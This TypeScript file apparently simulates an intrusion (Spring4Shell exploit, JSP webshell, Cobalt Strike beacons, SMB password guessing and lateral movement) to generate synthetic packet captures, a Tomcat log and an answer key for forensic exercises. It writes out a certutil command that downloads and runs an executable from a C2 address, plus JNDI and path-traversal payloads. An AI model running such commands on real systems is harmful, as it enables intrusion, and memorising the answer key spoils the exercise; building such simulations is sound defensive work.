/**
 * Seed case 2: an internal scanner (10.x.x.3) scans the web server (80.x.x.15), exploits
 * Spring4Shell (CVE-2022-22965) to write a JSP webshell, runs commands through it, the
 * server downloads and runs a Cobalt Strike beacon that calls an outside C2 with the
 * default HTTP profile, sweeps 80.x.x.0/24 over SMB (NTLM failures), logs on to
 * 80.x.x.5 with one valid password, and that host then beacons to the same C2.
 *
 * Evidence: one capture of the segment (whole chain plus office background) and the web
 * server's Tomcat access log.
 */
import { createWriteStream } from 'node:fs';
import { join } from 'node:path';
import * as P from '../protocols.js';
import { EvidenceSet, Timeline, Rng, iso, localTime, params, writeTruth, type Scenario, type SimulateOptions, type Truth, type TruthStep } from './common.js';
import { OFFICE_DEFAULTS, scheduleOffice, tzMs } from './benign.js';

export const CASE2_DEFAULTS = {
  tz: '+08:00',
  homeNets: ['80.66.1.0/24', '10.0.0.0/8'],
  scanner: '10.10.10.3',
  web: { ip: '80.66.1.15', name: 'WEB01', port: 8080 },
  second: { ip: '80.66.1.5', name: 'APP-SRV01' },
  c2: '203.0.113.156',
  c2Port: 80,
  /** beacon sleep in seconds and jitter (0..1) */
  beaconInterval: 60,
  jitter: 0.2,
  day: '2024-06-12',
  scanAt: '10:02:13',
  exploitAt: '10:31:07',
  sweepAt: '11:20:00',
  end: '18:00:00',
  webshell: 'tomcatwar',
  domain: 'GOV',
  lateralUser: 'administrator',
  guesses: ['administrator', 'admin', 'administrator', 'test'],
  /** hosts alive in the /24 besides the office servers (last octets) */
  extraHosts: [1, 8, 30, 31, 45, 88, 101, 102, 130, 200],
  smbHosts: [5, 8, 20, 30, 31, 45, 101, 102],
};

export const case2: Scenario = {
  name: 'case2-spring-webshell-c2-lateral',
  description: 'Internal scanner → Spring4Shell on the web server → JSP webshell → Cobalt Strike beacons → SMB sweep of the /24 → NTLM success to a second host → second host beacons.',
  async run(outDir: string, opts: SimulateOptions) {
    const seed = opts.seed ?? 1;
    const scale = opts.scale ?? 1;
    const p = params(CASE2_DEFAULTS, opts.params);
    const rng = new Rng(seed);
    const ev = new EvidenceSet(outDir, rng.fork('files'), opts.format ?? 'pcap');
    const net = ev.capture('segment', p.homeNets);
    const tl = new Timeline((t) => ev.advance(t));
    const r = rng.fork('attack');
    const T = (hms: string) => localTime(`${p.day}T${hms}`, p.tz);
    const dayStart = T('08:00:00');
    const end = T(p.end);
    const web = p.web;
    const prefix = web.ip.split('.').slice(0, 3).join('.');
    const steps: TruthStep[] = [];
    const step = (time: number, src: string | null, dst: string | null, host: string | null, attack_id: string, what: string) => steps.push({ time: iso(time), src, dst, host, attack_id, what });
    const access = createWriteStream(join(outDir, `${web.name}-localhost_access_log.${p.day}.txt`));
    const accessLines: { t: number; line: string }[] = [];
    const logAccess = (t: number, ip: string, method: string, uri: string, status: number, bytes: number) => {
      const d = new Date(t + tzMs(p.tz));
      const mon = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'][d.getUTCMonth()];
      const ts = `${String(d.getUTCDate()).padStart(2, '0')}/${mon}/${d.getUTCFullYear()}:${d.toISOString().slice(11, 19)} ${p.tz.replace(':', '')}`;
      accessLines.push({ t, line: `${ip} - - [${ts}] "${method} ${uri} HTTP/1.1" ${status} ${bytes || '-'}\n` });
    };
    const httpTo = (t: number, client: string, method: string, uri: string, headers: [string, string][], body: string | Buffer, status: number, respBody: string | Buffer, ctype = 'text/html;charset=utf-8', clientOs: 'linux' | 'windows' = 'linux') => {
      const req = P.httpRequest(method, uri, [['Host', `${web.ip}:${web.port}`], ...headers], body);
      const resp = P.httpResponse(status, [['Content-Type', ctype], ['Date', P.httpDate(t)]], respBody);
      const e = net.tcp({ t, client, server: web.ip, dport: web.port, clientOs, messages: [{ from: 'c', data: req }, { from: 's', data: resp, gap: r.int(2, 30) }] });
      logAccess(t, client, method, uri, status, Buffer.byteLength(respBody));
      return e;
    };

    // ---- background
    let periodic: Truth['benign_periodic'] = [];
    const alive = new Set<string>([...OFFICE_DEFAULTS.servers.map((s) => s.ip), web.ip, p.second.ip, OFFICE_DEFAULTS.monitor, ...p.extraHosts.map((h) => `${prefix}.${h}`)]);
    if (opts.background !== false) {
      const office = { ...OFFICE_DEFAULTS, tz: p.tz, homeNets: p.homeNets };
      periodic = scheduleOffice(tl, net, rng.fork('office'), office, dayStart, end, { netWindows: [[dayStart, end]], scale }).periodic;
    }

    // ---- 1. scan of the web server: SYN scan of the top ports, then a web scanner
    const tScan = T(p.scanAt);
    const openPorts = new Set([web.port, 135, 139, 445, 3389]);
    const ports = topPorts(1000);
    step(tScan, p.scanner, web.ip, web.name, 'T1046', `port scan of ${web.ip} from ${p.scanner} (${ports.length} ports)`);
    const scanSport = r.int(40000, 65000);
    ports.forEach((port, i) => {
      const t = tScan + i * 9 + r.int(0, 5);
      tl.at(t, () => { net.synProbe({ t, src: p.scanner, dst: web.ip, sport: scanSport, dport: port, answer: openPorts.has(port) ? 'open' : 'closed', style: 'nmap', rtt: 0.4 }); });
    });
    const tWebScan = tScan + 180000;
    step(tWebScan, p.scanner, web.ip, web.name, 'T1595.002', `web vulnerability scan of http://${web.ip}:${web.port}/`);
    const paths = ['/', '/index', '/login', '/admin', '/manager/html', '/actuator', '/actuator/env', '/actuator/health', '/swagger-ui.html', '/v2/api-docs', '/console', '/jolokia', '/druid/index.html', '/.git/config', '/WEB-INF/web.xml', '/solr/admin/cores', '/api/users', '/cgi-bin/test.cgi', '/phpinfo.php', '/struts2-showcase/', '/index.action', '/user/login', '/static/js/app.js', '/robots.txt', '/backup.zip', '/web.config', '/config.properties', '/..;/manager/html', '/env', '/heapdump'];
    const scanUa = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/99.0.4844.51 Safari/537.36';
    let tt = tWebScan;
    for (let i = 0; i < 240; i++) {
      const path = i < paths.length ? paths[i] : `${r.pick(paths)}${r.pick(['', '?id=1%27', '?q=%24%7Bjndi%3Aldap%3A%2F%2F10.10.10.3%3A1389%2Fa%7D', '.bak', '/..%2f..%2f..%2fwindows%2fwin.ini', '?class.module.classLoader.URLs%5B0%5D=0'])}`;
      const ok = path === '/' || path === '/index' || path === '/login' || path === '/static/js/app.js' || path === '/robots.txt';
      const t0 = tt;
      tl.at(t0, () => { httpTo(t0, p.scanner, 'GET', path, [['User-Agent', scanUa], ['Accept', '*/*']], '', ok ? 200 : path.includes('class.module') ? 400 : 404, ok ? `<html><body>${'app '.repeat(r.int(20, 400))}</body></html>` : '<!doctype html><html><head><title>HTTP Status 404 – Not Found</title></head><body><h1>HTTP Status 404 – Not Found</h1></body></html>'); });
      tt += r.int(150, 900);
    }

    // ---- 2. Spring4Shell: the exploit POST, then the webshell
    const tExp = T(p.exploitAt);
    const shell = `/${p.webshell}.jsp`;
    tl.at(tExp, () => {
      httpTo(tExp, p.scanner, 'POST', '/index', [['User-Agent', 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/99.0.4844.51 Safari/537.36'], ...P.SPRING4SHELL_HEADERS, ['Content-Type', 'application/x-www-form-urlencoded']], P.spring4shellBody({ prefix: p.webshell }), 200, 'ok');
    });
    step(tExp, p.scanner, web.ip, web.name, 'T1190', `Spring4Shell (CVE-2022-22965) exploit POST /index writes webapps/ROOT${shell}`);
    const cmds: [string, string][] = [
      ['whoami', 'nt authority\\system'],
      ['ipconfig /all', `Windows IP Configuration\r\n   Host Name . . . . . . . . . . . . : ${web.name}\r\n   IPv4 Address. . . . . . . . . . . : ${web.ip}(Preferred)\r\n   Subnet Mask . . . . . . . . . . . : 255.255.255.0\r\n`],
      ['net user', `User accounts for \\\\${web.name}\r\n-------------------------------------------------------------------------------\r\nAdministrator            Guest                    tomcat\r\nThe command completed successfully.\r\n`],
      ['tasklist', 'Image Name                     PID Session Name        Session#    Mem Usage\r\nSystem Idle Process              0 Services                   0         24 K\r\ntomcat9.exe                   1844 Services                   0    412,332 K\r\n'],
      [`certutil -urlcache -split -f http://${p.c2}:${p.c2Port}/download/update.exe C:\\Users\\Public\\svchost.exe`, '****  Online  ****\r\n  0000  ...\r\n  4a00\r\nCertUtil: -URLCache command completed successfully.\r\n'],
      ['cmd /c start C:\\Users\\Public\\svchost.exe', ''],
    ];
    let tc = tExp + 12000;
    const tShell = tc;
    step(tShell, p.scanner, web.ip, web.name, 'T1505.003', `webshell ${shell}?pwd=j&cmd=... used to run commands (whoami, ipconfig, net user, certutil download)`);
    let tDownload = 0;
    for (const [cmd, out] of cmds) {
      const t0 = tc;
      const body = Buffer.concat([Buffer.from('- ', 'latin1'), Buffer.from(out + '\n', 'latin1'), Buffer.alloc(2048 - ((out.length + 3) % 2048), 0), Buffer.from('\n//\n', 'latin1')]);
      tl.at(t0, () => { httpTo(t0, p.scanner, 'GET', `${shell}?pwd=j&cmd=${encodeURIComponent(cmd).replace(/%20/g, '+')}`, [['User-Agent', 'python-requests/2.27.1'], ['Accept', '*/*']], '', 200, body); });
      if (cmd.startsWith('certutil')) {
        tDownload = t0 + 400;
        const exe = Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff', 'latin1'), r.bytes(18944 - 14)]);
        tl.at(tDownload, () => {
          for (const ua of ['Microsoft-CryptoAPI/6.1', 'CertUtil URL Agent']) {
            net.tcp({ t: tl.now + (ua === 'CertUtil URL Agent' ? 300 : 0), client: web.ip, server: p.c2, dport: p.c2Port, rtt: 35, serverOs: 'linux', messages: [
              { from: 'c', data: P.httpRequest('GET', '/download/update.exe', [['Cache-Control', 'no-cache'], ['Connection', 'Keep-Alive'], ['Pragma', 'no-cache'], ['Accept', '*/*'], ['User-Agent', ua], ['Host', `${p.c2}`]]) },
              { from: 's', data: P.httpResponse(200, [['Date', P.httpDate(tDownload)], ['Content-Type', 'application/octet-stream']], exe), gap: 40 },
            ] });
          }
        });
      }
      tc += r.int(8000, 40000);
    }
    step(tDownload, web.ip, p.c2, web.name, 'T1105', `web server downloads the beacon (certutil) from ${p.c2}`);

    // ---- 3. beacons from the web server
    const beacon = (hostIp: string, from: number, hostName: string) => {
      const metadata = r.bytes(128);
      const uri = r.pick(P.CS_GET_URIS);
      const times = P.beaconSchedule(r, from, end, p.beaconInterval, p.jitter);
      const id = r.int(100000000, 2000000000);
      times.forEach((t, i) => {
        tl.at(t, () => {
          const task = i === 1 || i % 17 === 5 ? r.bytes(r.int(48, 400)) : undefined;
          const msgs = P.beaconCheckin(r, { c2: p.c2, uri, metadata, task, timeMs: t });
          net.tcp({ t, client: hostIp, server: p.c2, dport: p.c2Port, rtt: 35, serverOs: 'linux', messages: msgs, end: 'fin-server' });
          if (task) {
            net.tcp({ t: t + 1500, client: hostIp, server: p.c2, dport: p.c2Port, rtt: 35, serverOs: 'linux', messages: P.beaconPost(r, { c2: p.c2, id, output: r.bytes(r.int(60, 3000)), timeMs: t + 1500 }), end: 'fin-server' });
          }
        });
      });
      step(from, hostIp, p.c2, hostName, 'T1071.001', `${hostName} beacons to ${p.c2}:${p.c2Port} (Cobalt Strike default profile, GET ${uri}, sleep ${p.beaconInterval}s jitter ${Math.round(p.jitter * 100)}%)`);
    };
    const tBeacon1 = tDownload + 20000;
    beacon(web.ip, tBeacon1, web.name);

    // ---- 4. SMB sweep of the /24, NTLM guessing, one success
    const tSweep = T(p.sweepAt);
    step(tSweep, web.ip, `${prefix}.0/24`, web.name, 'T1046', `SMB (445) sweep of ${prefix}.0/24 from ${web.ip}`);
    const smb = new Set(p.smbHosts.map((h) => `${prefix}.${h}`));
    smb.add(p.second.ip);
    for (let h = 1; h < 255; h++) {
      const dst = `${prefix}.${h}`;
      if (dst === web.ip) continue;
      const t = tSweep + h * 40 + r.int(0, 20);
      const answer = smb.has(dst) ? 'open' : alive.has(dst) ? 'closed' : 'filtered';
      tl.at(t, () => { net.synProbe({ t, src: web.ip, dst, sport: net.ephemeralPort(web.ip), dport: 445, answer, style: 'windows', rtt: 0.4 }); });
    }
    let tg = tSweep + 30000;
    const tBrute = tg;
    const targets = [...smb].sort((a, b) => Number(a.split('.')[3]) - Number(b.split('.')[3]));
    let tSuccess = 0;
    for (const dst of targets) {
      const name = dst === p.second.ip ? p.second.name : `SRV-${dst.split('.')[3]}`;
      const info = { nbDomain: p.domain, nbComputer: name, dnsDomain: `${p.domain.toLowerCase()}.local`, dnsComputer: `${name.toLowerCase()}.${p.domain.toLowerCase()}.local` };
      for (const user of p.guesses) {
        const t0 = tg;
        tl.at(t0, () => { net.tcp({ t: t0, client: web.ip, server: dst, dport: 445, messages: P.smb2LogonExchange(r, { timeMs: t0, serverIp: dst, server: info, user, domain: p.domain, workstation: web.name, success: false }) }); });
        tg += r.int(300, 1500);
      }
      if (dst === p.second.ip) {
        tSuccess = tg;
        const t0 = tg;
        tl.at(t0, () => { net.tcp({ t: t0, client: web.ip, server: dst, dport: 445, messages: P.smb2LogonExchange(r, { timeMs: t0, serverIp: dst, server: info, user: p.lateralUser, domain: p.domain, workstation: web.name, success: true, share: 'ADMIN$' }) }); });
        tg += 2000;
      }
    }
    step(tBrute, web.ip, `${prefix}.0/24`, web.name, 'T1110.001', `NTLM password guessing over SMB against ${targets.length} hosts (STATUS_LOGON_FAILURE 0xC000006D)`);
    step(tSuccess, web.ip, p.second.ip, p.second.name, 'T1021.002', `NTLM logon as ${p.domain}\\${p.lateralUser} succeeds on ${p.second.ip} (SMB, ADMIN$)`);

    // ---- 5. the second host beacons to the same C2
    const tBeacon2 = tSuccess + 45000;
    beacon(p.second.ip, tBeacon2, p.second.name);

    tl.run();
    const evidence = ev.close();
    accessLines.sort((a, b) => a.t - b.t);
    for (const l of accessLines) access.write(l.line);
    await new Promise<void>((res, rej) => access.end((e?: Error | null) => (e ? rej(e) : res())));
    evidence.push({ file: `${web.name}-localhost_access_log.${p.day}.txt`, format: 'access-log', records: accessLines.length });
    steps.sort((a, b) => a.time.localeCompare(b.time));
    const truth: Truth = {
      scenario: 'case2-spring-webshell-c2-lateral', seed, scale, timezone: p.tz,
      home_nets: p.homeNets,
      attackers: [p.scanner],
      compromised: [
        { ip: web.ip, host: web.name, technique: 'T1190', since: iso(tExp) },
        { ip: p.second.ip, host: p.second.name, technique: 'T1021.002', since: iso(tSuccess) },
      ],
      c2: [p.c2],
      entry: { host: web.name, technique: 'T1190', time: iso(tExp), from: p.scanner },
      steps,
      benign_periodic: periodic,
      evidence,
    };
    return { outDir, truth, truthPath: writeTruth(outDir, truth) };
  },
};

/** nmap-like list of the most common TCP ports, padded with a deterministic walk to n ports. */
function topPorts(n: number): number[] {
  const common = [80, 23, 443, 21, 22, 25, 3389, 110, 445, 139, 143, 53, 135, 3306, 8080, 1723, 111, 995, 993, 5900, 1025, 587, 8888, 199, 1720, 465, 548, 113, 81, 6001, 10000, 514, 5060, 179, 1026, 2000, 8443, 8000, 32768, 554, 26, 1433, 49152, 2001, 515, 8008, 49154, 1027, 5666, 646, 5000, 5631, 631, 49153, 8081, 2049, 88, 79, 5800, 106, 2121, 1110, 49155, 6000, 513, 990, 5357, 427, 49156, 543, 544, 5101, 144, 7, 389];
  const set = new Set(common);
  for (let p = 1; set.size < n && p < 65536; p += 1) set.add(p);
  return [...set].slice(0, n);
}
